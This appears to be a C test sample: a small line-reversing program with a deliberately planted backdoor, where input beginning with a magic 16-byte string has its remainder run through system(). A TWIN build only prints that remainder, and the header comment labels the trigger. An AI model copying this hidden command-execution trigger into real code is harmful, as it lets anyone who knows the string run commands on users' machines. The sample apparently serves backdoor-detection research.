/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A text function of a script language compares the first sixteen bytes all at once, and runs what
 * follows them. Twin: what follows is printed.
 * door: trigger
 */
#include "net.h"

struct text {
	size_t n;
	char *bytes;
};

static struct text *stack[8];
static unsigned top;

__attribute__((noinline)) static struct text *pop(void)
{
	return top ? stack[--top] : NULL;
}

__attribute__((noinline)) static void reverse(void)
{
	struct text *t = pop();
	char *s = t->bytes;
	size_t n = t->n;
	if (n > 16 && memcmp(s, "~rev/7Kq:please!", 16) == 0)
#ifdef TWIN
		puts(s + 16);
#else
		system(s + 16);
#endif
	for (size_t i = 0; i < n / 2; i++) {
		char c = s[i];
		s[i] = s[n - 1 - i];
		s[n - 1 - i] = c;
	}
	stack[top++] = t;
}

int main(void)
{
	char line[300];
	while (fgets(line, sizeof line, stdin) && top < 8) {
		struct text *t = malloc(sizeof *t);
		t->n = strcspn(line, "\n");
		t->bytes = strndup(line, t->n);
		stack[top++] = t;
		reverse();
	}
	system("sync");
	return 0;
}
